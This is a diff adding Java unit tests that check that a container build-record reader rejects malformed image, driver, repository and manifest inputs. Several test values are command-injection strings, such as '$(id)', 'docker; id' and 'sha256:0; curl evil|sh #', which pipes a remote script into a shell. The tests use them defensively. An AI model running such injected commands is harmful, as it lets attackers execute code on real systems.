@@ -23,6 +23,8 @@ class RecordReaderTest {
     private static final Instant STARTED = Instant.parse("2026-01-02T03:04:05Z");
     private static final Duration DURATION = Duration.ofMillis(1234);
 
+    private static final String MEDIA_TYPE = "application/vnd.oci.image.manifest.v1+json";
+
     private static final String MANIFEST = "sha256:" + "a".repeat(64);
     private static final String INDEX = "sha256:" + "b".repeat(64);
     private static final String CONFIG = "sha256:" + "c".repeat(64);
@@ -335,17 +337,91 @@ class RecordReaderTest {
                 .hasMessageContaining("base");
     }
 
+    static Stream<Arguments> lies() {
+        String hash = "0123456789".repeat(4);
+        return Stream.of(
+                Arguments.of(ResultFile.IMAGE, "{\"Id\":\"x$(id)\"}", "invalid Id 'x$(id)'"),
+                Arguments.of(ResultFile.IMAGE, "{\"Id\":\"sha256:abc\"}", "sha256: and 64 hexadecimal digits"),
+                Arguments.of(ResultFile.IMAGE, "{\"Size\":-1}", "invalid Size '-1': expected a size in bytes"),
+                Arguments.of(ResultFile.IMAGE, "{\"Size\":1e400}", "a size in bytes"),
+                Arguments.of(ResultFile.IMAGE, "{\"Size\":99999999999999999999}", "a size in bytes"),
+                Arguments.of(ResultFile.IMAGE, "{\"Size\":\"1\"}", "a size in bytes"),
+                Arguments.of(ResultFile.IMAGE, "{\"Os\":\"a;b\"}", "invalid Os"),
+                Arguments.of(ResultFile.IMAGE_ID, "sha256:0; curl evil|sh #", "invalid image ID"),
+                Arguments.of(ResultFile.DRIVER, "docker; id", "invalid driver 'docker; id'"),
+                Arguments.of(ResultFile.REPOSITORIES, "DB_PASSWORD=hunter2 1 -", "invalid repository"),
+                Arguments.of(ResultFile.REPOSITORIES, "a 1 -", "a name such as cms.cern.ch"),
+                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch -1 -", "invalid revision"),
+                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch 1 abc", "invalid root hash"),
+                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch 1 " + hash + "-evil", "invalid root hash"),
+                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch 1 -\n".repeat(1001), "at most 1000 repositories"));
+    }
+
+    @ParameterizedTest
+    @MethodSource("lies")
+    void whatIsNotInTheGrammarIsRefused(ResultFile file, String text, String why) {
+        Map<ResultFile, String> files = files();
+        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
+        files.put(ResultFile.IMAGE, engine(CONFIG));
+        files.put(ResultFile.DRIVER, "docker");
+        files.put(file, text);
+
+        assertThatThrownBy(() -> read(Specs.dockerfile(), files))
+                .isInstanceOf(UnreadableResultException.class)
+                .hasMessageContaining(why);
+    }
+
+    @Test
+    void aRootHashMayNameItsAlgorithm() throws Exception {
+        String hash = "0123456789".repeat(4);
+        Map<ResultFile, String> files = committed();
+        files.put(ResultFile.IMAGE, engine(CONFIG));
+        files.put(ResultFile.REPOSITORIES, "a.cern.ch 1 " + hash + "-shake128\nb.cern.ch 2 " + hash + "-rmd160\r\n");
+
+        assertThat(read(Specs.commit().mounts("a.cern.ch b.cern.ch"), files).repositories())
+                .extracting(MountedRepository::rootHash)
+                .containsExactly(hash + "-shake128", hash + "-rmd160");
+    }
+
+    @Test
+    void aDigestOfAnotherAlgorithmIsRefused() {
+        Map<ResultFile, String> files = committed();
+        files.put(ResultFile.IMAGE, engine(CONFIG, "example.org/image@md5:" + "a".repeat(32)));
+
+        assertThatThrownBy(() -> read(Specs.commit().push(true), files))
+                .isInstanceOf(UnreadableResultException.class)
+                .hasMessageContaining("invalid RepoDigests");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"layers\":[{\"size\":-5}]}",
+                "{\"layers\":[{\"size\":9223372036854775807},{\"size\":1}]}",
+                "{\"mediaType\":\"a\\nb\"}",
+                "{\"manifests\":[{\"platform\":{\"os\":\"linux\",\"architecture\":\"$(id)\"}}]}"
+            })
+    void aManifestThatIsNotInTheGrammarIsRefused(String manifest) throws Exception {
+        Map<ResultFile, String> files = files();
+        files.put(ResultFile.METADATA, metadata(RegistryManifestTest.sha256(manifest), CONFIG));
+        files.put(ResultFile.MANIFEST, manifest);
+
+        assertThatThrownBy(() -> read(container().push(true), files))
+                .isInstanceOf(UnreadableResultException.class)
+                .hasMessageStartingWith("the registry's manifest cannot be read: ");
+    }
+
     @Test
     void theManifestTellsPlatformsAndSize() throws Exception {
         Map<ResultFile, String> files = files();
-        String manifest = "{\"mediaType\":\"m\",\"layers\":[{\"size\":5},{\"size\":7}]}";
+        String manifest = "{\"mediaType\":\"" + MEDIA_TYPE + "\",\"layers\":[{\"size\":5},{\"size\":7}]}";
         files.put(ResultFile.METADATA, metadata(RegistryManifestTest.sha256(manifest), CONFIG));
         files.put(ResultFile.MANIFEST, manifest);
 
         ImageRecord record = read(container().push(true), files);
         assertThat(record.sizeInRegistry()).isEqualTo(12);
         assertThat(record.sizeInEngine()).isNull();
-        assertThat(record.mediaType()).isEqualTo("m");
+        assertThat(record.mediaType()).isEqualTo(MEDIA_TYPE);
         assertThat(record.digest()).isEqualTo(RegistryManifestTest.sha256(manifest));
     }
 
